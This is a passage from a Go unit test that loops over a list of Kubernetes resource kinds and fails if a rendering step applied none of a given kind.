	for _, kind := range []string{"DaemonSet", "Service", "Secret", "ConfigMap", "ServiceAccount", "ClusterRole", "ClusterRoleBinding", "Role", "RoleBinding", "Certificate", "Issuer", "Package", "ServiceMonitor"} {
		if kinds[kind] == 0 {
			t.Errorf("no render applied a %s", kind)
		}
	}
}
